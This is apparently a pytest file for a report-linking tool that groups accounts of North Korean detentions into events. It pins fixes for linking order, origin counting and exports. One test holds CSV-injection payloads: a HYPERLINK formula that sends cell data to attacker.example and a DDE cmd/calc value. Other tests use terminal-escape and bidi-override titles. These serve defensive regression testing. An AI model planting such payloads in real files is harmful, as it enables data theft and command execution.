"""Review of events: defects found by attacking linking, origins, claims, the event tables
and the event commands, each pinned by a test (and a few checks of what holds).

Every report text below was written for these tests; the event fixtures are read only.
Each defect test failed before its fix; the others check behaviour found correct.
"""

from __future__ import annotations

import csv
import io
import json
import time
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from corroborate.claims import event_record
from corroborate.cli import main
from corroborate.events import Account, Claim, blocking_keys, probe_keys
from corroborate.linking import evidence
from corroborate.origins import citations
from corroborate.pipeline import ingest, reprocess
from corroborate.store import Store

from .conftest import database_of
from .helpers import text_report

FIXTURES = Path(__file__).parent / "fixtures" / "events"
FAMILY = [FIXTURES / f"{n}.txt" for n in ("a-dailynk", "b-rfa", "c-rewrite", "d-negative",
                                          "e-unrelated")]


# -- helpers --------------------------------------------------------------------------------

def _account(**fields) -> Account:
    base = dict(
        id="a-1", story_id="s-1", incident_id="i-1", report_id="r-1", title=None,
        published="2023-09-04", outlet=None, country="KP", region="KP-09",
        city="KP-09:Musan", places=("KP-09:Musan",), when="2023-08-30", precision="day",
        violations=("arbitrary_detention",), acts=("arbitrary_detention",),
        perpetrator="kp_mps", perpetrators=("kp_mps",), groups=(), named=(), count=None,
        punishments=(), terms=(), sources=(), quotes=(), figures=(), charges=(), words=(),
        claims=(), reports=())
    base.update(fields)
    return Account(**base)


def _ingest(store: Store, *paths: Path | str) -> None:
    result = ingest(store, [str(p) for p in paths])
    assert result.ok, result.failures


def _summary(store: Store) -> list[tuple]:
    """Each event: id, origins, its reports, the origin of each report."""
    return sorted((r["id"], r["origins"], tuple(sorted(x["id"] for x in r["reports"])),
                   tuple(sorted(x["origin_of"] for x in r["reports"])))
                  for r in store.events())


def _dangling(store: Store) -> dict[str, int]:
    """Rows of the event tables that point at nothing (all should be zero)."""
    q = store.db.execute
    return {
        "accounts without event": q(
            "SELECT count(*) FROM accounts a LEFT JOIN events e ON e.id = a.event_id "
            "WHERE e.id IS NULL").fetchone()[0],
        "events without account": q(
            "SELECT count(*) FROM events e WHERE NOT EXISTS "
            "(SELECT 1 FROM accounts a WHERE a.event_id = e.id)").fetchone()[0],
        "accounts of no story": q(
            "SELECT count(*) FROM accounts a LEFT JOIN stories s ON s.id = a.story_id "
            "WHERE s.id IS NULL").fetchone()[0],
        "links to no account": q(
            "SELECT count(*) FROM links l WHERE NOT EXISTS (SELECT 1 FROM accounts a "
            "WHERE a.id = l.a) OR NOT EXISTS (SELECT 1 FROM accounts a WHERE a.id = l.b)"
        ).fetchone()[0],
    }


def _write_jsonl(path: Path, records: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


# Two accounts of one detention, invented for these tests: a report dated only "in 2023"
# (published December 2023) and a later reworded report with no incident date (published
# August 2024) that shares its quote, its count and its figure.
YEAR_REPORT = (
    "date 2023-12-20\nPolice in Musan sent eleven smugglers to a labour camp this year\n\n"
    "Police in Musan, North Hamgyong province, detained eleven smugglers in 2023 and sent "
    "them to a labour training camp, a source in the city told Daily NK.\n\n"
    "\"The police took them away from the market at dawn and nobody saw them again,\" the "
    "source said, adding that 240 households were searched.\n\n"
    "Reported by Staff for Daily NK.\n")
UNDATED_REPORT = (
    "date 2024-08-15\nLabour camp for Musan traders caught with contraband\n\n"
    "Eleven smugglers from Musan in North Hamgyong province were detained by police and "
    "sent off to a labour training camp, according to a resident reached by phone from "
    "Seoul.\n\n"
    "\"The police took them away from the market at dawn and nobody saw them again,\" the "
    "resident recalled. Officers went through 240 households, the resident added, and "
    "confiscated goods.\n\n"
    "Residents near the border say the crackdown on smuggling has not eased. Markets "
    "stayed quiet.\n\n"
    "Reported by Staff for Peninsula Brief.\n")

# Two independent accounts of one detention (invented), for JSON Lines inputs.
MUSAN_ONE = (
    "Police in Musan, North Hamgyong province, detained eleven smugglers on 28 February "
    "and sent them to a labour training camp, a source in the city said.\n\n"
    "The smugglers had carried Chinese phones and medicine across the frozen river, the "
    "source said, and their families were fined.\n\n"
    "Crackdowns along the border have grown harsher since the pandemic, residents say.\n")
MUSAN_TWO = (
    "Eleven people caught smuggling in Musan were arrested by the police on 28 February, a "
    "resident of North Hamgyong province reported, and all eleven were sent to a labour "
    "training camp.\n\n"
    "\u201cThey were marched out of the police station in a line, roped together,\u201d the "
    "resident said in a message sent through a broker.\n\n"
    "Their relatives were ordered to pay for the goods the police seized.\n")


def _musan_pair(path: Path, one: dict, two: dict) -> Path:
    return _write_jsonl(path, [
        {"title": "Eleven Musan smugglers sent to labour camp", "date": "2024-03-05",
         "text": MUSAN_ONE, "outlet": "Musan Monitor", "url": "https://example.org/one",
         **one},
        {"title": "Musan police arrest eleven over smuggling", "date": "2024-03-09",
         "text": MUSAN_TWO, "outlet": "Border Watch", "url": "https://example.org/two",
         **two}])


# -- defects found in review: each test failed before its fix -------------------------

def test_blocking_of_a_year_dated_and_a_later_undated_account_is_not_symmetric():
    """Fixed: an undated account published 5-16 months after a year finds the year's
    accounts, but they do not find it, so whether they link depends on arrival order."""
    year = _account(id="a-2", story_id="s-2", when="2023", precision="year",
                    published="2023-12-20")
    undated = _account(id="a-1", story_id="s-1", when=None, precision=None,
                       published="2024-08-15")
    finds = bool(set(probe_keys(undated)) & set(blocking_keys(year)))
    found = bool(set(probe_keys(year)) & set(blocking_keys(undated)))
    assert finds == found


def test_compatibility_of_a_year_dated_and_an_undated_account_depends_on_their_ids():
    """Fixed: with no incident date on one side, evidence() checks blocking in one
    direction only (smaller id first), so the same two accounts are compatible or not
    depending on which hash happens to sort first."""
    year = _account(id="a-5", story_id="s-5", when="2023", precision="year",
                    published="2023-12-20", count=(11, 11))
    before = _account(id="a-1", story_id="s-1", when=None, precision=None,
                      published="2024-08-15", count=(11, 11))
    after = replace(before, id="a-9", story_id="s-9")
    assert (evidence(before, year) is None) == (evidence(after, year) is None)


def test_events_of_a_year_dated_and_an_undated_report_depend_on_arrival_order(tmp_path):
    """Fixed: the year-dated report then the undated one gives one event; the other order
    (or both in one ingest) gives two: events depend on the order reports arrive in."""
    year = tmp_path / "year.txt"
    undated = tmp_path / "undated.txt"
    year.write_text(YEAR_REPORT, encoding="utf-8")
    undated.write_text(UNDATED_REPORT, encoding="utf-8")
    summaries = []
    for name, batches in (("y-then-u", [[year], [undated]]), ("u-then-y", [[undated], [year]]),
                          ("together", [[year, undated]])):
        with Store.init(tmp_path / name) as store:
            for batch in batches:
                _ingest(store, *batch)
            summaries.append(_summary(store))
    assert summaries[0] == summaries[1] == summaries[2]


def test_event_csv_lets_a_spreadsheet_run_a_formula_from_a_title_or_url(store, tmp_path):
    """Fixed: a title or URL beginning with = (from the input) is written to the event CSV
    as is; Excel and LibreOffice evaluate it as a formula (CSV injection)."""
    source = _musan_pair(
        tmp_path / "hostile.jsonl",
        {"title": '=HYPERLINK("https://attacker.example/?d="&A1,"Eleven detained")',
         "url": "=cmd|' /C calc'!A0"},
        {"title": "+SUM(1,2)"})
    _ingest(store, source)
    out = io.StringIO()
    from corroborate.export import write_event_csv

    write_event_csv(store, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows
    for row in rows:
        for column in ("title", "first_url", "outlets"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), \
                (column, row[column])


def test_events_jsonl_prints_c1_controls_and_bidi_overrides_raw(store, tmp_path):
    """Fixed: `events --format jsonl` writes U+009B (CSI) and U+202E from a title to the
    terminal unescaped, where `stories --format jsonl` and text output escape them."""
    source = _musan_pair(tmp_path / "controls.jsonl",
                         {"title": "Eleven \u009b2J detained \u202egnp.exe"}, {})
    _ingest(store, source)
    collection = str(store.root)
    store.close()
    result = CliRunner().invoke(main, ["events", "-c", collection, "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines and all(json.loads(line) for line in lines)  # still JSON
    assert "\u009b" not in result.output and "\u202e" not in result.output


def test_main_perpetrator_prefers_generic_authorities_over_the_named_agency(store):
    """Fixed: on a tie between origins, the generic "authorities" (RFA's lead) beats the
    MSS Daily NK names, because the tie goes to the smallest character offset."""
    _ingest(store, *FAMILY)
    record = next(r for r in store.events() if r["origins"] == 2)
    values = record["fields"]["perpetrator"]["values"]
    assert values[0]["value"] == "kp_mss", [(v["value"], v["origins"]) for v in values]


def test_main_values_on_a_tie_follow_character_offsets_not_the_earliest_origin():
    """Fixed: the main date and victim count on a tie go to the value whose quote starts
    at the smallest offset in its own report, so an event can show the earliest origin's
    title ("nine") with the later origin's count (7) and day."""
    def claims(report: str, day: str, count: int, at: int) -> tuple[Claim, ...]:
        return (Claim("date", day, day, report, at, at + 9, day, "day"),
                Claim("victim_count", str(count), f"{count} people", report, at + 20,
                      at + 30, f"{count} people", None, count, count))

    first = _account(id="a-1", story_id="s-1", report_id="r-1", outlet="daily_nk",
                     published="2023-09-04", title="Nine detained in Musan",
                     claims=claims("r-1", "2023-08-30", 9, 300),
                     reports=({"id": "r-1", "origin": "a.txt", "url": None,
                               "outlet": "Daily NK", "published": "2023-09-04",
                               "title": "Nine detained in Musan"},))
    later = _account(id="a-2", story_id="s-2", report_id="r-2", outlet="rfa",
                     published="2023-09-07", title="Seven held in Musan",
                     claims=claims("r-2", "2023-08-31", 7, 0),
                     reports=({"id": "r-2", "origin": "b.txt", "url": None,
                               "outlet": "RFA", "published": "2023-09-07",
                               "title": "Seven held in Musan"},))
    record = event_record([later, first], {})
    assert record["origins"] == 2 and record["title"] == "Nine detained in Musan"
    assert record["date"]["value"] == "2023-08-30"
    assert record["fields"]["victim_count"]["values"][0]["value"] == "9"


def test_placeholder_outlets_make_independent_reports_one_origin(store, tmp_path):
    """Fixed: outlets with no word characters ("-", "?") all become "site:", so two
    independent reports are counted as one origin ("same_outlet: site:")."""
    _ingest(store, _musan_pair(tmp_path / "placeholders.jsonl", {"outlet": "-"},
                               {"outlet": "?"}))
    records = list(store.events())
    assert len(records) == 1 and len(records[0]["reports"]) == 2  # they do link
    assert records[0]["origins"] == 2, records[0]["origin_list"]


def _template_reports(folder: Path, count: int) -> list[Path]:
    """One outlet's short formulaic reports of detentions in one city and month."""
    import random

    rng = random.Random(1)
    words = ("rice market cart bicycle tunnel factory school hospital railway bridge orchard "
             "mine wharf barracks clinic canteen").split()
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        w = rng.sample(words, 6)
        path = folder / f"r{i:04d}.txt"
        path.write_text(
            f"date 2023-09-{1 + i % 20:02d}\nPolice detain {w[0]} workers in Hyesan case {i}"
            f"\n\nPolice in Hyesan, Yanggang province, detained {3 + i % 9} people near the "
            f"{w[0]} and the {w[1]} on {1 + i % 25} August, a source in the city told Daily "
            f"NK. The {w[2]} was closed for inquiry number {1000 + i}.\n\n"
            f"The detainees had worked at the {w[3]} and the {w[4]}, the source said, and "
            f"officers searched the {w[5]} as well.\n\nReported by Staff for Daily NK.\n",
            encoding="utf-8")
        paths.append(path)
    return paths


def _largest_record(store: Store) -> int:
    return store.db.execute("SELECT max(length(record)) FROM events").fetchone()[0]


def test_an_event_record_grows_with_the_square_of_its_accounts(tmp_path):
    """Fixed: an event's record holds every pairwise link, rewritten whole on each ingest
    that touches it: 3x the accounts makes it ~6x larger (400 reports: 8.5 MB, and one more
    report then takes seconds)."""
    sizes = []
    for n in (40, 120):
        with Store.init(tmp_path / f"c{n}") as store:
            _ingest(store, *_template_reports(tmp_path / f"in{n}", n))
            sizes.append(_largest_record(store))
    assert sizes[1] < 4.5 * sizes[0], sizes


# -- checked and found correct --------------------------------------------------------------

def _unnamed(store: Store) -> list[tuple[object, ...]]:
    return sorted(summary[1:] for summary in _summary(store))


def _repost_of_a(folder: Path) -> Path:
    """The Daily NK fixture reposted by another site two days later (a new version of its
    story: the story's account id changes)."""
    text = (FIXTURES / "a-dailynk.txt").read_text(encoding="utf-8")
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "f-repost.txt"
    path.write_text(text.replace("date 2023-09-04", "date 2023-09-06")
                    .replace("Reported by Staff for Daily NK.",
                             "Reported by Staff for NK Roundup."), encoding="utf-8")
    return path


def test_a_story_that_gains_a_version_leaves_no_stale_rows_and_matches_a_fresh_ingest(
        tmp_path):
    """A repost joining a story changes its account id: the old account, its links and its
    event go, and the events equal those of one ingest of everything."""
    repost = _repost_of_a(tmp_path / "extra")
    with Store.init(tmp_path / "grown") as grown, Store.init(tmp_path / "fresh") as fresh:
        _ingest(grown, *FAMILY[:3])
        before = grown.account_ids()
        _ingest(grown, repost, *FAMILY[3:])
        assert before - grown.account_ids()  # an account was replaced
        _ingest(fresh, *FAMILY, repost)
        # the same events; their ids are the ones they had when first made (issue 12)
        assert _unnamed(grown) == _unnamed(fresh)
        assert set(_dangling(grown).values()) == {0}, _dangling(grown)
        named = _summary(grown)
        assert reprocess(grown).ok
        assert _summary(grown) == named
        assert set(_dangling(grown).values()) == {0}, _dangling(grown)


def test_verify_and_deep_verify_pass_with_events(store):
    """The event tables are derived data: verify, deep or not, finds nothing wrong."""
    _ingest(store, *FAMILY)
    assert not [p for p in store.verify() if p.fatal]
    assert not [p for p in store.verify(deep=True) if p.fatal]


def test_a_schema_2_collection_gets_its_events_at_the_next_ingest(tmp_path):
    """A collection of the previous version (no event tables) is migrated on opening;
    the next ingest, even of nothing, makes its events."""
    root = tmp_path / "old"
    with Store.init(root) as store:
        _ingest(store, *FAMILY[:3])
        expected = _summary(store)
    db = database_of(root)
    db.executescript("DROP TABLE account_probes; DROP TABLE links; DROP TABLE account_keys; "
                     "DROP TABLE accounts; "
                     "DROP TABLE events; DROP TABLE review_log; DROP TABLE users; "
                     "PRAGMA user_version = 2;")
    db.close()
    with Store.open(root) as store:
        assert list(store.events()) == []
        assert ingest(store, []).ok
        assert _summary(store) == expected


def test_a_schema_2_collection_shows_its_events_without_an_ingest(tmp_path):
    """Reading commands make the events of a collection from before them (once, under the
    write lock) rather than print nothing."""
    root = tmp_path / "old"
    with Store.init(root) as store:
        _ingest(store, *FAMILY[:3])
    db = database_of(root)
    db.executescript("DROP TABLE account_probes; DROP TABLE links; DROP TABLE account_keys; "
                     "DROP TABLE accounts; "
                     "DROP TABLE events; DROP TABLE review_log; DROP TABLE users; "
                     "PRAGMA user_version = 2;")
    db.close()
    result = CliRunner().invoke(main, ["events", "-c", str(root)])
    assert result.exit_code == 0, result.output
    assert "2 origin(s)" in result.output


@pytest.mark.sqlite_only(reason="encryption at rest is SQLCipher's")
def test_an_encrypted_collection_holds_and_shows_its_events(tmp_path, monkeypatch):
    """Events in an encrypted collection: listed, shown, and verified, via the CLI."""
    pytest.importorskip("sqlcipher3")
    monkeypatch.setenv("CORROBORATE_PASSPHRASE", "correct horse battery staple")
    root = str(tmp_path / "sealed")
    runner = CliRunner()
    assert runner.invoke(main, ["init", "--encrypt", root]).exit_code == 0
    result = runner.invoke(main, ["ingest", "-q", "-c", root, *map(str, FAMILY[:3])])
    assert result.exit_code == 0, result.output
    listed = runner.invoke(main, ["events", "-c", root, "--min-origins", "2"])
    assert listed.exit_code == 0 and "2 origin(s)" in listed.output, listed.output
    shown = runner.invoke(main, ["show", "-c", root, listed.output.split()[0]])
    assert shown.exit_code == 0 and "linked because" in shown.output
    assert runner.invoke(main, ["verify", "-c", root]).exit_code == 0


def test_events_and_show_escape_terminal_controls_in_titles(store, tmp_path):
    """Text output of `events` and `show` escapes ESC, C1 controls and bidi overrides."""
    source = _musan_pair(tmp_path / "controls.jsonl",
                         {"title": "Eleven \x1b[2J\u009b2J \u202egnp.exe detained"}, {})
    _ingest(store, source)
    collection = str(store.root)
    store.close()
    runner = CliRunner()
    listed = runner.invoke(main, ["events", "-c", collection])
    shown = runner.invoke(main, ["show", "-c", collection, listed.output.split()[0]])
    for output in (listed.output, shown.output):
        assert not any(c in output for c in ("\x1b", "\u009b", "\u202e"))


@pytest.mark.parametrize("text", [
    "according to " * 80_000,
    "according to Daily NK, " * 45_000,
    "a source told Radio Free Asia " * 35_000,
])
def test_citations_of_a_megabyte_of_hostile_text_take_seconds_not_minutes(text):
    """No catastrophic backtracking in the citation patterns on 1 MB of cues and names."""
    started = time.monotonic()
    citations(text_report(text), None)
    assert time.monotonic() - started < 20
